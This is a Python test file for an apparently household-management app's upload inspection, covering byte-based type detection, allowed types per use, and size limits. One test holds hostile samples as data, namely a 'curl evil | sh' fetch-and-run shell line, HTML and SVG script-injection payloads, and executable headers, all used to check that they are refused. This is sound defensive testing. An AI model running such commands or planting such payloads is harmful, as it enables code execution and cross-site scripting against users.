"""Upload inspection: the type comes from the bytes, and each use accepts only some types."""

from __future__ import annotations

import pytest

from commonhold.platform.errors import AppError
from commonhold.platform.files.inspection import (
    ALLOWED_TYPES_BY_USE,
    FILE_USES,
    HEAD_BYTES,
    FileTooLarge,
    FileTypeMismatch,
    FileTypeNotAllowed,
    FileUse,
    check_declared,
    detect_type,
    inspect_upload,
)
from tests.platform.files.conftest import encode, noisy_picture

MiB = 1024 * 1024
PDF_BYTES = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"


def real_images() -> dict[str, bytes]:
    picture = noisy_picture(32, 24)
    return {
        "image/jpeg": encode(picture, "JPEG"),
        "image/png": encode(picture, "PNG"),
        "image/webp": encode(picture, "WEBP"),
        "image/gif": encode(picture.convert("P"), "GIF"),
    }


def inspect(head: bytes, use: FileUse = "photo", declared: str | None = None) -> str:
    return inspect_upload(head[:HEAD_BYTES], use, declared, size=len(head), max_bytes=MiB)


def refusal(error: pytest.ExceptionInfo[AppError]) -> tuple[int, str]:
    return error.value.status, error.value.code


def test_the_uses_are_photo_receipt_manual_and_document() -> None:
    assert FILE_USES == ("photo", "receipt", "manual", "document")
    assert set(ALLOWED_TYPES_BY_USE) == set(FILE_USES)


@pytest.mark.parametrize("use", FILE_USES)
def test_images_are_accepted_for_every_use(use: FileUse) -> None:
    for media_type, data in real_images().items():
        assert inspect(data, use) == media_type


def test_a_pdf_is_a_receipt_a_manual_or_a_document_but_not_a_photo() -> None:
    assert inspect(PDF_BYTES, "receipt", "application/pdf") == "application/pdf"
    assert inspect(PDF_BYTES, "manual") == "application/pdf"
    assert inspect(PDF_BYTES, "document", "application/pdf") == "application/pdf"
    with pytest.raises(FileTypeNotAllowed) as raised:
        inspect(PDF_BYTES, "photo", "application/pdf")
    assert refusal(raised) == (415, "file_type_not_allowed")
    assert raised.value.extra["detected_type"] == "application/pdf"


def test_the_detected_type_is_stored_not_the_declared_one() -> None:
    png = real_images()["image/png"]
    assert inspect(png, "photo", "image/jpeg") == "image/png"
    assert inspect(png, "photo", "application/octet-stream") == "image/png"
    assert inspect(png, "manual", "application/pdf") == "image/png"


def test_a_file_declared_as_an_image_must_be_one() -> None:
    with pytest.raises(FileTypeMismatch) as raised:
        inspect(PDF_BYTES, "receipt", "image/jpeg")
    assert refusal(raised) == (415, "file_type_mismatch")
    assert raised.value.extra == {"declared_type": "image/jpeg", "detected_type": "application/pdf"}


@pytest.mark.parametrize(
    ("data", "detected"),
    [
        (b"\x7fELF\x02\x01\x01" + bytes(64), "application/x-elf"),
        (b"MZ\x90\x00\x03" + bytes(64), "application/vnd.microsoft.portable-executable"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64), "application/x-mach-binary"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(64), "application/x-mach-binary"),
        (b"#!/bin/sh\ncurl evil | sh\n", "text/x-shellscript"),
        (b"<!DOCTYPE html><script>alert(1)</script>", "text/html"),
        (b"\xef\xbb\xbf \r\n\t<HTML><body onload=alert(1)>", "text/html"),
        ("<html><script>alert(1)</script>".encode("utf-16"), "text/html"),
        (b"  <!-- hi --><p>text</p>", "text/html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>", "image/svg+xml"),
        (b"<?xml version='1.0'?>\n<!-- x -->\n<svg xmlns='urn:x'/>", "image/svg+xml"),
        (b'<?xml version="1.0"?><note>hello</note>', "application/xml"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("declared", ["image/png", "application/pdf", None])
def test_executables_and_markup_are_refused_whatever_they_claim(
    data: bytes, detected: str, declared: str | None
) -> None:
    assert detect_type(data[:HEAD_BYTES]) == detected
    for use in FILE_USES:
        with pytest.raises(FileTypeNotAllowed) as raised:
            inspect(data, use, declared)
        assert refusal(raised) == (415, "file_type_not_allowed")
        assert detected in raised.value.message


def test_heic_is_recognised_and_refused() -> None:
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)
    assert detect_type(heic) == "image/heic"
    with pytest.raises(FileTypeNotAllowed, match="image/heic"):
        inspect(heic, "photo", "image/heic")


@pytest.mark.parametrize("data", [b"", b"just some text", b"PK\x03\x04zip", bytes(100)])
def test_unrecognised_files_are_refused(data: bytes) -> None:
    with pytest.raises(FileTypeNotAllowed) as raised:
        inspect(data, "manual")
    assert raised.value.extra["detected_type"] is None


def test_size_is_checked_before_anything_else() -> None:
    with pytest.raises(FileTooLarge) as raised:
        inspect_upload(b"\x7fELF", "photo", "image/png", size=MiB + 1, max_bytes=MiB)
    assert refusal(raised) == (413, "file_too_large")
    assert raised.value.extra == {"max_bytes": MiB}
    assert inspect_upload(PDF_BYTES, "manual", None, size=MiB, max_bytes=MiB) == "application/pdf"


def test_a_declaration_can_be_refused_before_the_upload() -> None:
    check_declared("photo", "image/jpeg", 1000, MiB)
    check_declared("photo", None, 1000, MiB)
    check_declared("receipt", "Application/PDF; version=1.7", 1000, MiB)
    with pytest.raises(FileTypeNotAllowed):
        check_declared("photo", "application/pdf", 1000, MiB)
    with pytest.raises(FileTypeNotAllowed):
        check_declared("manual", "image/svg+xml", 1000, MiB)
    with pytest.raises(FileTooLarge):
        check_declared("photo", "image/jpeg", MiB + 1, MiB)
